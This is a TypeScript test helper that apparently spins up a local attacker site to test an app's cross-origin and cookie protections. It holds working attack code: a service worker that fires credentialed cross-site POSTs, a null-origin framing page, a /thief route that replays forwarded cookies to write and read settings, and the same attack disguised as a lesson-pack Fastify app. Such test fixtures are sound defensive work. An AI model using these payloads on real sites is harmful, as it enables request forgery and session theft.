import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Runs in the attacker's service worker; what to attack stands in the address of its own script. */
const SERVICE_WORKER = `
const { origin, word } = Object.fromEntries(new URL(location.href).searchParams);
const body = JSON.stringify({ json: { key: word, value: 'attacked' } });
const attack = () => fetch(origin + '/rpc/settings/set', { method: 'POST', mode: 'no-cors', credentials: 'include', body });
oninstall = (event) => event.waitUntil(attack().catch(() => {}));
`;

const ATTACK_PAGE = '<!doctype html><title>Elsewhere</title><p>Elsewhere</p>';
/** A frame without an origin of its own: its requests say "null". */
const FRAMING_PAGE =
  '<!doctype html><title>Elsewhere</title><iframe sandbox="allow-scripts allow-forms allow-popups" src="/"></iframe>';

/** Another web site on this machine, under every name that leads here; it is a program as well. */
export async function startAttackSite(): Promise<{ port: number; close(): void }> {
  const server = createServer((request, response) => void answer(request, response));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const { pathname, searchParams } = new URL(request.url ?? '/', 'http://site');
  if (pathname === '/thief') {
    const { origin = '', word = '' } = Object.fromEntries(searchParams);
    const read = await steal(origin, word, request.headers.cookie ?? '').catch(() => null);
    response.end(JSON.stringify({ read }));
    return;
  }
  const isWorker = pathname === '/service-worker.js';
  response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html');
  response.end(isWorker ? SERVICE_WORKER : pathname === '/framing' ? FRAMING_PAGE : ATTACK_PAGE);
}

/** What a program does with a cookie that it was sent: it needs no browser, so no rule of browsers stops it. */
async function steal(origin: string, word: string, cookie: string): Promise<string | null> {
  const headers = { 'content-type': 'application/json', cookie };
  const body = JSON.stringify({ json: { key: word, value: 'attacked' } });
  await fetch(`${origin}/rpc/settings/set`, { method: 'POST', headers, body });
  const answer = await fetch(`${origin}/rpc/settings/all`, { method: 'POST', headers, body: '{}' });
  return answer.ok ? answer.text() : null;
}

/** The same site as a learner's own API: code of a lesson pack, say. */
export const HOSTILE_APP = `import Fastify from 'fastify';

export async function buildApp() {
  const app = Fastify();
  app.get('/', (_, reply) => reply.type('text/html').send(${JSON.stringify(ATTACK_PAGE)}));
  app.get('/service-worker.js', (_, reply) => reply.type('text/javascript').send(${JSON.stringify(SERVICE_WORKER)}));
  app.get('/thief', async (request) => {
    const { origin, word } = request.query as { origin: string; word: string };
    return { read: await steal(origin, word, request.headers.cookie ?? '').catch(() => null) };
  });
  return app;
}

${steal.toString().replace('steal(origin, word, cookie)', 'steal(origin: string, word: string, cookie: string)')}
`;
